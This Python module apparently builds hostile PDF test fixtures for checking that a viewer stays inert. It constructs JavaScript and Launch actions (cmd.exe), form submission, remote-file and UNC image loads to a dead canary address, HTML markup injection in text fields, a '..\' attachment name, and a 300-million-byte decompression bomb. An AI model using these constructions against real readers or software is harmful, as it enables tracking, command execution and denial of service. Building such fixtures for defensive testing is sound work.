"""PDFs that carry more than pages: scripts, actions, attached files. Written object by object, to be as odd as one likes."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Mapping
from functools import cache

CANARY = "//10.255.255.1/share/x.png"
"""A place on another computer: nothing may ever reach for it."""

MARKUP = f'<b>x</b><img src="file://{CANARY}">'
"""Words that Qt would read as markup, and fetch the picture of."""

SCRIPT = "app.launchURL('http://10.255.255.1/seen');"


def stream(data: bytes, entries: str = "", *, packed: bool = False) -> bytes:
    """Return a stream object's body."""
    body = zlib.compress(data, 9) if packed else data
    filters = "/Filter /FlateDecode" if packed else ""
    return f"<< {entries} {filters} /Length {len(body)} >>\nstream\n".encode() + body + b"\nendstream"


def carrying_pdf(
    *,
    catalog: str = "",
    page: str = "",
    annotations: tuple[str, ...] = (),
    pages: int = 1,
    more: Mapping[int, bytes | str] | None = None,
    trailer: str = "",
) -> bytes:
    """Return a PDF.

    Args:
        catalog: What stands in the catalog besides its pages.
        page: What stands in the last page's dictionary besides.
        annotations: The last page's annotations, what stands in their dictionaries.
        pages: How many there are: objects 3, 4, 5 …
        more: Further objects by number, from 100 on.
        trailer: What stands in the trailer besides.

    """
    kids = " ".join(f"{3 + one} 0 R" for one in range(pages))
    listed = "\n".join(f"<< /Type /Annot /Rect [100 600 300 620] {one} >>" for one in annotations)
    bare = "/Type /Page /Parent 2 0 R"
    objects: dict[int, bytes | str] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {pages} /MediaBox [0 0 400 800] >>",
    }
    objects |= {3 + one: f"<< {bare} >>" for one in range(pages)}
    objects[2 + pages] = f"<< {bare} {page} /Annots [{listed}] >>"
    objects |= more or {}
    out, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode("latin-1")) + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % places[one] if one in places else b"0000000000 00000 f \n" for one in range(1, size))
    out += f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def string(text: str) -> str:
    """Return any text as a PDF string, in hexadecimal digits of UTF-16."""
    return f"<feff{text.encode('utf-16-be').hex()}>"


def attached_pdf(*files: tuple[str, bytes], packed: bool = False, catalog: str = "", pages: int = 1) -> bytes:
    """Return a PDF with files attached to it as a whole, by the names given."""
    more: dict[int, bytes | str] = {}
    names = []
    for at, (name, data) in enumerate(files):
        number = 100 + 2 * at
        more[number] = f"<< /Type /Filespec /F {string(name)} /UF {string(name)} /EF << /F {number + 1} 0 R >> >>"
        more[number + 1] = stream(data, "/Type /EmbeddedFile", packed=packed)
        names.append(f"({at:04}) {number} 0 R")
    tree = f"/Names << /EmbeddedFiles << /Names [{' '.join(names)}] >> >>"
    return carrying_pdf(catalog=f"{tree} {catalog}", more=more, pages=pages)


@cache
def bomb_pdf() -> bytes:
    """Return a PDF with an attached file that unpacks to 300 million bytes."""
    packer, blank = zlib.compressobj(1), bytes(1_000_000)
    packed = b"".join(packer.compress(blank) for _ in range(300)) + packer.flush()
    more: dict[int, bytes | str] = {
        100: "<< /F (bomb.pdf) /EF << /F 101 0 R >> >>",
        101: stream(packed, "/Type /EmbeddedFile /Filter /FlateDecode"),
    }
    return carrying_pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>", more=more)


def markup(field: str) -> str:
    """Return words that Qt would read as markup, and fetch a picture for that is named after a field."""
    return MARKUP.replace("x.png", f"{field}.png")


def _same(_field: str) -> str:
    return MARKUP


def hostile_pdf(say: Callable[[str], str] = _same, *, pages: int = 2) -> bytes:
    """Return a PDF that tries all there is to phone home, to start things, and to have its words read as markup.

    Args:
        say: Returns what it says in a field, by the field's name.
        pages: How many it has; all but the last are blank.

    """
    unc = string("\\\\10.255.255.1\\share\\x.png")

    def said(field: str) -> str:
        return string(say(field))

    name = string(f"..\\{say('attachment')}.pdf")
    more: dict[int, bytes | str] = {
        100: f"<< /S /JavaScript /JS {string(SCRIPT)} /Next 101 0 R >>",
        101: f"<< /S /Launch /F {unc} /Win << /F (cmd.exe) /P (/c start http://10.255.255.1) >> /Next [102 0 R 100 0 R] >>",
        102: "<< /S /SubmitForm /F << /FS /URL /F (http://10.255.255.1/form) >> /Fields [] >>",
        103: f"<< /S /GoToR /F {unc} /D [0 /Fit] >>",
        104: f"<< /Type /Filespec /F {name} /UF {name} /EF << /F 105 0 R >> /Desc {said('attachment_note')} >>",
        105: stream(b"attached", "/Type /EmbeddedFile"),
        106: stream(b"<xdp:xdp xmlns:xdp='http://10.255.255.1/'/>"),
        107: f"<< /T {said('form')} /FT /Sig /V << /Name {said('signature')} /M (D:20190102030405Z) >> >>",
        108: f"<< /Title {said('outline')} /Parent 109 0 R /A << /S /URI /URI (http://10.255.255.1/heading) >> >>",
        109: "<< /Type /Outlines /First 108 0 R /Last 108 0 R /Count 1 >>",
        110: f"<< /Title {said('title')} /Author {said('author')} /Subject {said('subject')} /Creator {said('creator')} >>",
        111: stream(b"", f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /F {unc} /FFilter /DCTDecode"),
        112: stream(
            b"q 10 0 0 10 0 0 cm /Im Do Q BT /F1 12 Tf 50 700 Td (We never asked for it.) Tj "
            b"/F1 8 Tf 0 -40 Td (%s) Tj ET" % say("words").encode()
        ),
        113: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        114: f"<< /Type /OCG /Name {said('layer')} >>",
    }
    catalog = (
        "/OpenAction 100 0 R /AA << /WC 100 0 R >> /AcroForm << /Fields [107 0 R] /XFA 106 0 R >> /Outlines 109 0 R "
        "/Names << /JavaScript << /Names [(a) 100 0 R] >> /EmbeddedFiles << /Names [(x) 104 0 R] >> >> "
        f"/OCProperties << /OCGs [114 0 R] /D << /ON [114 0 R] >> >> /PageLabels << /Nums [0 << /P {said('label')} >>] >>"
    )
    remark = f"/T {said('annotation_author')} /Contents {said('annotation')}"
    return carrying_pdf(
        catalog=catalog,
        page="/AA << /O 101 0 R >> /Contents 112 0 R /Resources << /XObject << /Im 111 0 R >> /Font << /F1 113 0 R >> >>",
        annotations=(
            "/Subtype /Link /A << /S /URI /URI (http://10.255.255.1/a) >>",
            "/Subtype /Link /A 103 0 R",
            f"/Subtype /Link /A << /S /URI /URI {said('link')} >>",
            f"/Subtype /Highlight /QuadPoints [50 712 150 712 50 698 150 698] {remark}",
            f"/Subtype /FileAttachment /FS 104 0 R /Contents {said('attachment_comment')}",
        ),
        pages=pages,
        more=more,
        trailer="/Info 110 0 R",
    )
